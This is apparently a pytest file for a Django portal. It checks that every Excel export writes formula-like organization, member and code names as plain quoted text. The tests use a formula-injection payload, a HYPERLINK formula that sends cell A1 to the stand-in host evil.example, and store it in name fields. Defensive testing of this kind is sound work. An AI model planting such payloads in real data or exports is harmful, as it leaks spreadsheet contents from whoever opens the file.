"""Every Excel download of the portal, built over names that start like a formula: no cell holds a formula.

The names are written straight into the database (as a file or an older version of the portal might have left
them), so the test holds whatever the services accept today.
"""

import inspect
import zipfile
from datetime import date
from io import BytesIO
from xml.etree import ElementTree

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from indicators.services import snapshot_refresh
from members.models import Code, CodeList, Member
from organizations.models import Organization
from party_portal import excel
from party_portal.celery import app as celery_app
from party_portal.doors import OTHER, door
from reports import services as report_services
from reports.models import ReportRun, RunStatus
from tests.factories import make_member
from tests.indicators.conftest import rated_2024

__all__ = ["rated_2024"]

PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
STARTS = ("=", "+", "-", "@", "\t", "\r")
ORG_NAMES = {code: f"{s}{PAYLOAD} {code}" for code, s in zip(("P", "D1", "D2", "G1", "G2", "C1"), STARTS, strict=True)}
# A, B and N are G1's members to rate in 2024 (rated_2024); M1-M3 join them so its template holds every start.
G1_MEMBERS = ("A", "B", "N", "M1", "M2", "M3")
MEMBER_NAMES = {key: f"{start}{PAYLOAD} {key}" for key, start in zip(G1_MEMBERS, STARTS, strict=True)}
SPREADSHEET_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

# Every view that answers with an .xlsx file, by URL name. A new download must be added here (and so tested):
# test_the_list_of_excel_downloads_is_complete finds them by walking the URL conf.
DOWNLOADS = {
    "indicators:export",
    "indicators:drilldown_export",
    "members:list_export",
    "evaluations:queue_export",
    "indicators:progress_export",
    "imports:template",
    "reports:download",
    "api-report-download",
    "reports:form_bieu1_download",
    "reports:form_bieu2_download",
    "reports:form_bieu3_download",
    "reports:form_bieu5_download",
    "reports:form_register_download",
    "reports:register_job_download",
    "reports:comparison_download",
    "reports:final_review_download",
}
EXCEL_MARKERS = ("xlsx", "XLSX", "spreadsheetml", "FileResponse")
# Downloads that serve a file but never a workbook: the consolidated report is a Word document (its typed texts are
# plain runs, tests/reports/test_consolidated.py), and its Excel annex is downloaded through reports:download.
# The reporting cycle's stored files (a plan's document, a review's attachment) are sent back byte for byte as the
# unit uploaded them, always as a download: the portal writes no cell of them (docs/decisions.md, issue 12).
NOT_WORKBOOKS = {"reports:consolidated_download", "reviews:plan_document", "reviews:attachment"}


def _patterns(resolver, namespace=""):
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from _patterns(pattern, inner)
        elif isinstance(pattern, URLPattern):
            yield f"{namespace}{pattern.name}" if pattern.name else repr(pattern.pattern), pattern.callback


def _view_source(callback):
    view = getattr(callback, "view_class", None) or getattr(callback, "cls", None) or inspect.unwrap(callback)
    try:
        return inspect.getsource(view)
    except (OSError, TypeError):
        return ""


def test_the_list_of_excel_downloads_is_complete():
    found = {
        name
        for name, callback in _patterns(get_resolver())
        if any(marker in _view_source(callback) for marker in EXCEL_MARKERS)
    }

    assert found == DOWNLOADS | NOT_WORKBOOKS


@pytest.fixture
def hostile_names(rated_2024, tree):
    extra = {key: make_member(tree["C1"], admission_date=date(2020, 1, 2)) for key in ("M1", "M2", "M3")}
    members = {**rated_2024, **extra}
    for code, name in ORG_NAMES.items():
        Organization.objects.filter(pk=tree[code].pk).update(name=name)
    for key, name in MEMBER_NAMES.items():
        Member.objects.filter(pk=members[key].pk).update(full_name=name)
    return members


def _sheets_xml(content):
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return {
            name: archive.read(name)
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
        }


def _texts(content):
    """Every text cell's value, with the cell's type and whether it carries the quote prefix."""
    book = load_workbook(BytesIO(content))
    return {
        cell.value: (cell.data_type, cell.quotePrefix)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def _assert_safe(content, names):
    sheets = _sheets_xml(content)
    assert sheets
    for name, xml in sheets.items():
        formulas = list(ElementTree.fromstring(xml).iter(f"{SPREADSHEET_NS}f"))
        assert formulas == [], name
    texts = _texts(content)
    for name in names:
        # openpyxl keeps a carriage return as written (with lxml, a dependency of python-docx); without lxml, XML turns
        # a bare carriage return into a line feed. Either way the cell still starts with a blank, as text.
        stored = {name, name.replace("\r", "\n")}
        matching = [value for value in texts if any(form in value for form in stored)]
        assert matching, f"{name!r} not in the workbook"
        for value in matching:
            assert texts[value] == ("s", value.startswith(excel.FORMULA_STARTS) or value.startswith(("\n", "\r")))


def _download(client, url):
    response = client.get(url)
    assert response.status_code == 200, url
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert content[:2] == b"PK"
    return content


def test_dashboard_export_writes_formula_like_names_as_text(client, root_user, tree, hostile_names):
    snapshot_refresh(year=2024)
    client.force_login(root_user)

    content = _download(client, f"{reverse('indicators:export')}?nam=2024&pham-vi={tree['P'].pk}")

    _assert_safe(content, [ORG_NAMES["P"], ORG_NAMES["D1"], ORG_NAMES["D2"]])


def test_comparison_workbook_writes_formula_like_names_as_text(client, root_user, tree, hostile_names):
    snapshot_refresh(year=2024)
    client.force_login(root_user)

    content = _download(client, f"{reverse('reports:comparison_download')}?year=2024")

    _assert_safe(content, [ORG_NAMES["P"], ORG_NAMES["D1"], ORG_NAMES["D2"]])


@pytest.mark.parametrize(
    "slug", ["to-chuc", "dang-vien", "trinh-do-ly-luan", "chuc-vu-chinh-quyen", "du-sinh-hoat-chi-bo"]
)
def test_empty_import_templates_hold_no_formula(client, root_user, slug):
    client.force_login(root_user)

    content = _download(client, reverse("imports:template", args=[slug]))

    _assert_safe(content, [])


@pytest.mark.parametrize("slug", ["dang-vien", "chuc-vu-chinh-quyen"])
def test_import_templates_write_formula_like_code_names_as_text(client, root_user, slug):
    """The coded columns list the Board's code names in the drop-down sheet and the instructions."""
    names = [f"{start}{PAYLOAD} {index}" for index, start in enumerate(STARTS)]
    for index, name in enumerate(names):
        Code.objects.create(list=CodeList.POST, code=f"HOSTILE{index}", name=name)
        Code.objects.create(list=CodeList.OCCUPATION, code=f"HOSTILE{index}", name=name)
    client.force_login(root_user)

    content = _download(client, reverse("imports:template", args=[slug]))

    _assert_safe(content, names)


def test_ratings_template_writes_formula_like_member_names_as_text(client, root_user, tree, hostile_names):
    client.force_login(root_user)
    g1 = tree["G1"]

    content = _download(client, f"{reverse('imports:template', args=['xep-loai'])}?to_chuc={g1.pk}&nam=2024")

    _assert_safe(content, [*MEMBER_NAMES.values(), ORG_NAMES["G1"]])


def test_organization_ratings_template_writes_formula_like_organization_names_as_text(
    client, root_user, tree, hostile_names
):
    client.force_login(root_user)
    url = f"{reverse('imports:template', args=['xep-loai-to-chuc'])}?to_chuc={tree['P'].pk}&nam=2024"

    content = _download(client, url)

    _assert_safe(content, [ORG_NAMES[code] for code in ("P", "G1", "G2", "C1")])


def test_report_workbook_built_by_the_celery_task_writes_formula_like_names_as_text(
    client, root_user, tree, hostile_names, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setitem(celery_app.conf, "task_always_eager", True)
    with django_capture_on_commit_callbacks(execute=True):
        run = report_services.report_run_start(actor=root_user, year=2024, scope_id=tree["P"].pk)
    run = ReportRun.objects.get(pk=run.pk)
    assert run.status == RunStatus.DONE
    client.force_login(root_user)

    page = _download(client, reverse("reports:download", args=[run.pk]))
    api = _download(client, reverse("api-report-download", args=[run.pk]))

    assert page == api
    _assert_safe(page, [ORG_NAMES["P"], ORG_NAMES["D1"], ORG_NAMES["D2"], ORG_NAMES["G1"], ORG_NAMES["G2"]])


def test_the_writer_stores_text_even_for_a_cell_written_around_it_and_replaces_illegal_characters():
    book = excel.new_workbook(first_sheet="x")
    sheet = book.active
    sheet["A1"] = "=SUM(1,2)"
    excel.put(sheet, 2, 1, "=1+1")
    excel.put(sheet, 3, 1, "bad \x01 char")
    excel.put(sheet, 4, 1, 3)

    content = excel.workbook_bytes(book)

    _assert_safe(content, ["=SUM(1,2)", "=1+1"])
    cells = load_workbook(BytesIO(content)).active
    assert [cells[f"A{row}"].value for row in (1, 2, 3, 4)] == ["=SUM(1,2)", "=1+1", "bad \ufffd char", 3]
    assert [cells[f"A{row}"].quotePrefix for row in (1, 2, 3)] == [True, True, False]


def test_drilldown_export_writes_formula_like_names_as_text(client, root_user, tree, hostile_names):
    snapshot_refresh(year=2024)
    client.force_login(root_user)
    query = f"nam=2024&pham-vi={tree['P'].pk}&chi-tieu=T2a&nhom=denominator"

    content = _download(client, f"{reverse('indicators:drilldown_export')}?{query}")

    _assert_safe(content, [MEMBER_NAMES["A"], MEMBER_NAMES["B"], ORG_NAMES["G1"]])


def test_member_list_export_writes_formula_like_names_as_text(client, root_user, tree, hostile_names):
    client.force_login(root_user)

    content = _download(client, f"{reverse('members:list_export')}?ngay=31/12/2024")

    _assert_safe(content, [*MEMBER_NAMES.values(), ORG_NAMES["P"]])


def test_approval_queue_export_writes_formula_like_names_as_text(client, board_user, tree, hostile_names):
    client.force_login(board_user)

    content = _download(client, f"{reverse('evaluations:queue_export')}?nam=2024&trang_thai=tat-ca")

    _assert_safe(content, [ORG_NAMES["G1"], ORG_NAMES["G2"], ORG_NAMES["D1"], ORG_NAMES["D2"]])


def test_progress_export_writes_formula_like_names_as_text(client, root_user, tree, hostile_names):
    client.force_login(root_user)

    content = _download(client, f"{reverse('indicators:progress_export')}?nam=2024&pham-vi={tree['P'].pk}")

    _assert_safe(content, [ORG_NAMES["P"], ORG_NAMES["D1"], ORG_NAMES["D2"], ORG_NAMES["G2"]])


def test_statistics_forms_write_formula_like_names_as_text(client, root_user, tree, hostile_names):
    client.force_login(root_user)
    query = f"?nam=2024&to_chuc={tree['G1'].pk}"

    register = _download(client, f"{reverse('reports:form_register_download')}{query}")
    bieu1 = _download(client, f"{reverse('reports:form_bieu1_download')}{query}")

    _assert_safe(register, [*MEMBER_NAMES.values(), ORG_NAMES["G1"], ORG_NAMES["C1"]])
    _assert_safe(bieu1, [ORG_NAMES["G1"]])


@pytest.mark.parametrize("mode", ["historical", "comparable"])
def test_final_review_export_writes_formula_like_names_as_text(
    client, root_user, tree, hostile_names, mode, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setitem(celery_app.conf, "task_always_eager", True)
    client.force_login(root_user)
    url = f"{reverse('reports:final_review_download')}?scope={tree['P'].pk}&last=2024&mode={mode}"
    # The comparable figures are a job the first request queues (run here at once); the download reads its result.
    with door(OTHER), django_capture_on_commit_callbacks(execute=True):
        client.get(url)

    content = _download(client, url)

    _assert_safe(content, [ORG_NAMES["P"], ORG_NAMES["D1"], ORG_NAMES["D2"]])
